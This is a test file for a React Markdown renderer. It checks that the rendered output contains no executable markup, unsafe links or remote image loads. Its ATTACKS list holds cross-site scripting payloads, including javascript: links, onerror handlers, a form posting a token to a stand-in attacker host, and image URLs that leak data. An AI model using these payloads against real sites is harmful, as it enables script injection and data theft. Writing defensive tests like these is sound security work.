import { MantineProvider } from '@mantine/core';
import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { followable, isInlined } from './address';
import { Markdown } from './Markdown';

const view = (text: string, growing = false) => (
  <MantineProvider>
    <Markdown text={text} growing={growing} />
  </MantineProvider>
);
const show = (text: string, growing = false) => render(view(text, growing));

/** Ways in which a text tries to become more than a text. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=token></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="data:text/html,hi"></object>',
  '<details open ontoggle=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/api/session)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](data:text/html,hi)',
  '![x](/api/turns/1/cancel)',
  '![x](https://evil.example/?q=secret)',
  '![x][y]\n\n[y]: https://evil.example/p.png',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '$\\href{javascript:alert(1)}{x}$',
  '# <img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
];

function harmless(container: HTMLElement) {
  const bad = 'script, iframe, object, embed, form, base, meta, style, svg [onload], link';
  expect(container.querySelector(`.md :is(${bad})`)).toBeNull();
  for (const element of container.querySelectorAll('.md *')) {
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^srcdoc$/);
    const href = element.getAttribute('href');
    if (href !== null && !href.startsWith('#')) {
      expect(href).toMatch(/^(https?|mailto):/);
      expect(element.getAttribute('rel')).toContain('noopener');
      expect(element.getAttribute('target')).toBe('_blank');
    }
    const src = element.getAttribute('src');
    if (src !== null) expect(isInlined(src)).toBe(true);
  }
}

describe('an answer', () => {
  it.each(ATTACKS)('stays a text: %s', (attack) => {
    for (const growing of [false, true]) {
      const { container, unmount } = show(`before\n\n${attack}\n\nafter`, growing);
      harmless(container);
      expect(container).toHaveTextContent('before');
      expect(container).toHaveTextContent('after');
      unmount();
    }
  });
  it('stays a text wherever it is cut, and whatever is put together', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...ATTACKS, '\n', '**', '[', '](', '- ', '> '), { maxLength: 4 }),
        fc.nat(),
        (parts, cut) => {
          const text = parts.join('');
          const { container, unmount } = show(text.slice(0, cut % (text.length + 1)), true);
          harmless(container);
          unmount();
        },
      ),
      { numRuns: 60 },
    );
  });
  it('shows HTML as what it is', () => {
    const { container } = show('a <b>bold</b> word');
    expect(container.querySelector('b')).toBeNull();
    expect(container).toHaveTextContent('a <b>bold</b> word');
  });
  it('never loads a picture from elsewhere: it names whom it would ask', () => {
    const { container } = show('![secret](https://evil.example:8443/?q=1)');
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('Picture from evil.example:8443, not loaded')).toBeInTheDocument();
    const link = screen.getByRole('link', { name: /Open secret from evil.example/ });
    expect(link).toHaveAttribute('href', 'https://evil.example:8443/?q=1');
    expect(link).toHaveAttribute('rel', expect.stringContaining('noreferrer'));
  });
  it('shows a picture that came with the text', () => {
    show('![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)');
    expect(screen.getByRole('img', { name: 'dot' })).toHaveAttribute(
      'src',
      expect.stringMatching(/^data:image\/gif/),
    );
  });
  it('shows half a bold run as bold while it grows, and half a link as its words', () => {
    show('this is **bol', true);
    expect(screen.getByText('bol').tagName).toBe('STRONG');
    show('see [the notes](https://exa', true);
    expect(screen.getByText(/see the notes/)).toBeInTheDocument();
    expect(screen.queryByRole('link')).toBeNull();
  });
  it('has tables, task lists with names, and code with a copy button', () => {
    show('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] read\n\n```rust\nfn main() {}\n```');
    expect(within(screen.getByRole('table')).getByRole('cell', { name: '2' })).toHaveAttribute(
      'data-align',
      'right',
    );
    expect(screen.getByRole('checkbox', { name: 'Done' })).toBeChecked();
    expect(screen.getByRole('group', { name: 'rust code' })).toHaveTextContent('fn main() {}');
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
  });
  it('colours finished code', async () => {
    const { container } = show('```rs\nlet a = 1;\n```');
    await expect.poll(() => container.querySelector('.hljs-keyword')?.textContent).toBe('let');
  });
  it('keeps the elements of finished blocks while the last one grows', () => {
    const { container, rerender } = show('First paragraph.\n\nSec', true);
    const first = container.querySelector('.md p');
    rerender(view('First paragraph.\n\nSecond **one**', true));
    expect(container.querySelector('.md p')).toBe(first);
    expect(container.querySelectorAll('.md p')).toHaveLength(2);
  });
  it('begins its headings below those of the page, whichever level they come with', () => {
    show('### One\n\n#### Two');
    expect(screen.getByRole('heading', { name: 'One', level: 3 })).toBeInTheDocument();
    expect(screen.getByRole('heading', { name: 'Two', level: 4 })).toBeInTheDocument();
  });
  it('finds addresses and footnotes that stand elsewhere in the text', async () => {
    show('See [here][x] and this[^n].\n\nMore.\n\n[x]: https://example.org\n[^n]: The **note**.');
    expect(screen.getByRole('link', { name: 'here' })).toHaveAttribute('href', 'https://example.org/');
    await userEvent.click(screen.getByRole('link', { name: 'Footnote 1' }));
    expect(document.activeElement).toHaveTextContent('The note.');
  });
  it('sets formulas, and shows the source of what is none', async () => {
    const { container } = show('Inline $e^{i\\pi}$ and $\\frac{a}{b}$\n\nbut $\\nosuchthing$ costs $5.');
    await expect.poll(() => container.querySelectorAll('math').length).toBe(2);
    expect(container.querySelector('math mfrac')).not.toBeNull();
    await expect.poll(() => screen.queryByText('$\\nosuchthing$')).not.toBeNull();
  });
});

describe('addresses', () => {
  it.each([
    ['https://example.org/a?b=c', 'https://example.org/a?b=c'],
    ['mailto:me@example.org', 'mailto:me@example.org'],
    ['javascript:alert(1)', null],
    ['java\tscript:alert(1)', null],
    ['https://exa\u202emple.org', null],
    ['/relative', null],
    ['', null],
  ])('%s', (address, expected) => {
    expect(followable(address)).toBe(expected);
  });
});
